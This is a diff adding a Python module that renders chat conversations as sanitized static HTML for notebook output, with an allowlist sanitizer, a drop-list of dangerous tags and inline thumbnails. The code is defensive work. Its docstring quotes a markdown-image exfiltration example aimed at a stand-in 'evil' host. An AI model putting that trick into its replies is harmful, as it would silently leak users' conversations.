@@ -1,0 +1,394 @@
+"""A conversation as safe static HTML: for the panel's output bundle and for HTML export.
+
+A widget's view needs its kernel; GitHub, nbviewer, `nbconvert --to html` and a notebook
+reopened without a kernel show only the static outputs. So the panel also puts
+`transcript_html(turns)` in its output: the conversation as plain HTML, thumbnails inlined as
+`data:` URLs, small enough to live in a notebook.
+
+Model output is untrusted: a notebook's own outputs are trusted by JupyterLab (not
+sanitized), and `![](https://evil/?q=...)` in a reply would make every reader's browser send
+the conversation away. Text is rendered by `_markdown_html` (raw HTML escaped) and then passed
+through `sanitize_html`, an allowlist that keeps only inert tags, drops every script, event
+handler and style sheet, and turns any image that is not an inline `data:` picture into a link.
+"""
+
+from __future__ import annotations
+
+import base64
+import binascii
+import html
+import re
+from collections.abc import Iterable, Mapping
+from dataclasses import dataclass
+from datetime import datetime
+from html.parser import HTMLParser
+from typing import Any
+
+from .protocol import FINISH_NOTICES
+from .store import StoredTurn, turn_from_message
+
+__all__ = [
+    "Picture",
+    "as_turns",
+    "data_url",
+    "image_mime",
+    "safe_markdown_html",
+    "sanitize_html",
+    "transcript_html",
+    "turn_footer",
+    "turn_heading",
+    "turn_pictures",
+    "turns_html",
+]
+
+ROLE_LABELS = {"user": "You", "assistant": "Assistant", "system": "System"}
+# a transcript stays small: a bigger "thumbnail", or one past the total, is shown as its label
+MAX_THUMBNAIL_BYTES = 96_000
+MAX_TRANSCRIPT_PICTURE_BYTES = 1_000_000
+
+_ALLOWED = {
+    "p": (),
+    "br": (),
+    "hr": (),
+    "em": (),
+    "strong": (),
+    "del": (),
+    "s": (),
+    "b": (),
+    "i": (),
+    "sup": (),
+    "sub": (),
+    "blockquote": (),
+    "ul": (),
+    "ol": ("start",),
+    "li": (),
+    "h1": (),
+    "h2": (),
+    "h3": (),
+    "h4": (),
+    "h5": (),
+    "h6": (),
+    "pre": (),
+    "code": ("class",),
+    "span": ("class",),
+    "div": ("class",),
+    "table": (),
+    "thead": (),
+    "tbody": (),
+    "tr": (),
+    "th": ("style", "align"),
+    "td": ("style", "align"),
+    "a": ("href", "title"),
+    "img": ("src", "alt", "title"),
+    "details": (),
+    "summary": (),
+}
+_VOID = {"br", "hr", "img"}
+_DROP_WITH_CONTENT = {
+    "script",
+    "style",
+    "iframe",
+    "object",
+    "embed",
+    "template",
+    "noscript",
+    "textarea",
+    "title",
+    "svg",
+    "math",
+    "head",
+    "select",
+    "frame",
+    "frameset",
+    "applet",
+}
+_SAFE_HREF = re.compile(r"^(https?://|mailto:|#)", re.IGNORECASE)
+_DATA_IMAGE = re.compile(r"^data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/=\s]*$", re.IGNORECASE)
+_REMOTE = re.compile(r"^\s*(https?:)?//", re.IGNORECASE)
+_CLASS = re.compile(r"^[A-Za-z0-9_\- ]{1,80}$")
+_ALIGN_STYLE = re.compile(r"^\s*text-align:\s*(left|right|center)\s*;?\s*$", re.IGNORECASE)
+_LINK_REL = "nofollow noopener noreferrer"
+
+
+def _markdown_html(text: str) -> str:
+    """Markdown -> HTML with raw HTML escaped: the one switch to `render.markdown_html` once it lands."""
+    from .display import markdown_html
+
+    return markdown_html(text)
+
+
+def safe_markdown_html(text: str) -> str:
+    """Untrusted Markdown as HTML that runs nothing and fetches nothing."""
+    return sanitize_html(_markdown_html(text))
+
+
+class _Sanitizer(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.out: list[str] = []
+        self._skip = 0  # depth inside a tag dropped with its content
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag in _DROP_WITH_CONTENT:
+            self._skip += 1
+            return
+        if self._skip or tag not in _ALLOWED:
+            return
+        kept = {name: value or "" for name, value in attrs if name in _ALLOWED[tag]}
+        if tag == "img":
+            self._image(kept)
+            return
+        if tag == "a":
+            href = kept.pop("href", "")
+            if _SAFE_HREF.match(href):
+                kept["href"] = href
+                kept["rel"] = _LINK_REL
+        if "class" in kept and not _CLASS.match(kept["class"]):
+            del kept["class"]
+        if "style" in kept and not _ALIGN_STYLE.match(kept["style"]):
+            del kept["style"]
+        if "align" in kept and kept["align"].lower() not in ("left", "right", "center"):
+            del kept["align"]
+        if "start" in kept and not kept["start"].isdigit():
+            del kept["start"]
+        self.out.append(_tag(tag, kept))
+
+    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag not in _DROP_WITH_CONTENT:
+            self.handle_starttag(tag, attrs)
+            if tag not in _VOID:
+                self.handle_endtag(tag)
+
+    def _image(self, attrs: dict[str, str]) -> None:
+        src, alt = attrs.get("src", "").strip(), attrs.get("alt", "")
+        if _DATA_IMAGE.match(src):
+            self.out.append(_tag("img", {"src": src, "alt": alt, "style": "max-width: 100%"}))
+        elif _REMOTE.match(src) and _SAFE_HREF.match(src):
+            # a remote picture would be fetched by every reader: a link asks first
+            label = html.escape(alt or src)
+            self.out.append(f'<a href="{html.escape(src)}" rel="{_LINK_REL}">[image: {label}]</a>')
+        elif alt:
+            self.out.append(f"[image: {html.escape(alt)}]")
+
+    def handle_endtag(self, tag: str) -> None:
+        if tag in _DROP_WITH_CONTENT:
+            self._skip = max(0, self._skip - 1)
+        elif not self._skip and tag in _ALLOWED and tag not in _VOID:
+            self.out.append(f"</{tag}>")
+
+    def handle_data(self, data: str) -> None:
+        if not self._skip:
+            self.out.append(html.escape(data, quote=False))
+
+
+def _tag(name: str, attrs: Mapping[str, str]) -> str:
+    rendered = "".join(f' {key}="{html.escape(value)}"' for key, value in attrs.items())
+    return f"<{name}{rendered}>"
+
+
+def sanitize_html(markup: str) -> str:
+    """Keep only inert tags and attributes of `markup`; remote images become links."""
+    parser = _Sanitizer()
+    parser.feed(markup)
+    parser.close()
+    return "".join(parser.out)
+
+
+# ---------------------------------------------------------------------- pictures
+@dataclass(frozen=True)
+class Picture:
+    """One medium of a turn as it can be shown: bytes to inline, a URL to link, or just a label."""
+
+    label: str
+    data: bytes | None = None
+    url: str | None = None
+
+
+def image_mime(data: bytes) -> str:
+    """The MIME type of PNG, JPEG, GIF or WebP bytes (PNG when unsure)."""
+    if data[:3] == b"\xff\xd8\xff":
+        return "image/jpeg"
+    if data[:6] in (b"GIF87a", b"GIF89a"):
+        return "image/gif"
+    if data[:4] == b"RIFF" and data[8:12] == b"WEBP":
+        return "image/webp"
+    return "image/png"
+
+
+def data_url(data: bytes) -> str:
+    """A `data:` URL for image bytes, typed by their magic number."""
+    return f"data:{image_mime(data)};base64,{base64.b64encode(data).decode('ascii')}"
+
+
+def _decode(text: str) -> bytes | None:
+    if text.startswith("data:"):
+        text = text.partition(",")[2]
+    try:
+        return base64.b64decode(text, validate=True)
+    except (binascii.Error, ValueError):
+        return None
+
+
+def _part_picture(part: Mapping[str, Any], number: int) -> Picture:
+    kind = str(part.get("type", "media"))
+    medium = "video" if kind.startswith("video") else "image"
+    label = f"{medium} {number}"
+    if kind == "image_base64":
+        return Picture(label, data=_decode(str(part.get("image_base64", ""))))
+    url = str(part.get(kind, "")) if kind.endswith("_url") else ""
+    if url.startswith("data:image/"):
+        return Picture(label, data=_decode(url))
+    if url:
+        return Picture(label, url=url)
+    if kind.endswith("_file_id"):
+        return Picture(f"{label} (file {part.get(kind, '')})")
+    return Picture(label)
+
+
+def turn_pictures(turn: StoredTurn, *, full: bool = True) -> list[Picture]:
+    """What to show for a turn's media: `thumbnails[i]` stands for `media[i]`.
+
+    `full=True` prefers the picture that was sent (base64 parts); otherwise, or when the part
+    holds no bytes (a file id, a URL), the thumbnail. URLs are kept to link, never to fetch.
+    """
+    pictures = []
+    for i in range(max(len(turn.media), len(turn.thumbnails))):
+        part = _part_picture(turn.media[i], i + 1) if i < len(turn.media) else Picture(f"image {i + 1}")
+        thumb = turn.thumbnails[i] if i < len(turn.thumbnails) else None
+        data = part.data if full and part.data else thumb
+        pictures.append(Picture(part.label, data=data, url=part.url))
+    return pictures
+
+
+# ---------------------------------------------------------------------- turns
+def as_turns(items: Iterable[StoredTurn | Mapping[str, Any]]) -> list[StoredTurn]:
+    """Saved turns as they are; wire messages (`conv.messages`) made into turns."""
+    return [item if isinstance(item, StoredTurn) else turn_from_message(item) for item in items]
+
+
+def turn_footer(turn: StoredTurn) -> list[str]:
+    """The quiet lines under a turn: how it ended, an error, the tokens it took."""
+    lines = []
+    if turn.finish_reason in FINISH_NOTICES:
+        lines.append(FINISH_NOTICES[turn.finish_reason])
+    if turn.error:
+        lines.append(f"Error: {turn.error}")
+    usage = turn.usage or {}
+    if usage.get("total_tokens") is not None:
+        lines.append(
+            f"{usage.get('prompt_tokens', '?')} prompt + {usage.get('completion_tokens', '?')} "
+            f"completion = {usage['total_tokens']} tokens"
+        )
+    return lines
+
+
+def turn_heading(turn: StoredTurn) -> str:
+    """`Assistant \u00b7 model \u00b7 2026-12-03 14:12`: who spoke, with what, when (local time)."""
+    when = datetime.fromtimestamp(turn.created).strftime("%Y-%m-%d %H:%M")
+    model = f" \u00b7 {turn.model}" if turn.model and turn.role == "assistant" else ""
+    return f"{ROLE_LABELS.get(turn.role, turn.role.title())}{model} \u00b7 {when}"
+
+
+def _picture_html(picture: Picture, inline: bool, side: int) -> str:
+    label = html.escape(picture.label)
+    if picture.data and inline:
+        return (
+            f'<img src="{data_url(picture.data)}" alt="{label}" title="{label}" '
+            f'style="max-width: {side}px; max-height: {side}px; margin: 2px; border-radius: 4px">'
+        )
+    if picture.url and _SAFE_HREF.match(picture.url):
+        return f'<a href="{html.escape(picture.url)}" rel="{_LINK_REL}">[{label}]</a> '
+    return f"<span>[{label}]</span> "
+
+
+def turns_html(
+    turns: Iterable[StoredTurn | Mapping[str, Any]],
+    *,
+    full: bool = True,
+    max_picture_bytes: int | None = None,
+    total_picture_bytes: int | None = None,
+    picture_side: int = 512,
+) -> str:
+    """The turns as safe HTML with inline styles (shared by the transcript and the HTML page).
+
+    Pictures are inlined while each is at most `max_picture_bytes` and, in order, all together
+    at most `total_picture_bytes`; the others are named.
+    """
+    blocks = []
+    left = total_picture_bytes
+
+    def picture_html(picture: Picture) -> str:
+        nonlocal left
+        size = len(picture.data or b"")
+        inline = (max_picture_bytes is None or size <= max_picture_bytes) and (left is None or size <= left)
+        if inline and left is not None:
+            left -= size
+        return _picture_html(picture, inline, picture_side)
+
+    for turn in as_turns(turns):
+        tint = "#f3f6fb" if turn.role == "user" else "#ffffff"
+        role_style = "font-weight: 600; color: #555; font-size: 0.85em"
+        parts = [f'<div class="sensenova-role" style="{role_style}">{html.escape(turn_heading(turn))}</div>']
+        pictures = turn_pictures(turn, full=full)
+        if pictures:
+            parts.append(
+                '<div class="sensenova-media">' + "".join(picture_html(p) for p in pictures) + "</div>"
+            )
+        if turn.reasoning:
+            parts.append(
+                '<details class="sensenova-reasoning" style="color: #666"><summary>Reasoning</summary>'
+                f"{safe_markdown_html(turn.reasoning)}</details>"
+            )
+        parts.append(f'<div class="sensenova-text">{safe_markdown_html(turn.text)}</div>')
+        footer = turn_footer(turn)
+        if footer:
+            parts.append(
+                '<div class="sensenova-footer" style="color: #888; font-size: 0.8em">'
+                + "<br>".join(html.escape(line) for line in footer)
+                + "</div>"
+            )
+        blocks.append(
+            f'<div class="sensenova-turn sensenova-{html.escape(turn.role)}" style="background: {tint}; '
+            f'border: 1px solid #e3e3e3; border-radius: 6px; padding: 6px 10px; margin: 6px 0">'
+            + "".join(parts)
+            + "</div>"
+        )
+    return "\n".join(blocks)
+
+
+def transcript_html(
+    turns: Iterable[StoredTurn | Mapping[str, Any]],
+    *,
+    title: str | None = None,
+    note: str | None = None,
+    max_thumbnail_bytes: int = MAX_THUMBNAIL_BYTES,
+    total_thumbnail_bytes: int = MAX_TRANSCRIPT_PICTURE_BYTES,
+) -> str:
+    """A small static copy of the conversation for a notebook's output (thumbnails inlined).
+
+    Shown wherever the live panel cannot be (GitHub, nbviewer, nbconvert, no kernel); `note`
+    is a line such as "Run the cell again to continue this conversation."
+    """
+    turns = as_turns(turns)
+    head = html.escape(title or "SenseNova conversation")
+    count = f"{len(turns)} message{'s' if len(turns) != 1 else ''}"
+    lines = [
+        '<div class="sensenova-transcript" style="font-family: sans-serif; max-width: 860px">',
+        (
+            f'<div style="font-weight: 600">{head} '
+            f'<span style="color: #888; font-weight: 400">\u00b7 {count}</span></div>'
+        ),
+    ]
+    if note:
+        lines.append(f'<div style="color: #888; font-size: 0.85em">{html.escape(note)}</div>')
+    lines.append(
+        turns_html(
+            turns,
+            full=False,
+            max_picture_bytes=max_thumbnail_bytes,
+            total_picture_bytes=total_thumbnail_bytes,
+            picture_side=160,
+        )
+    )
+    lines.append("</div>")
+    return "\n".join(lines)
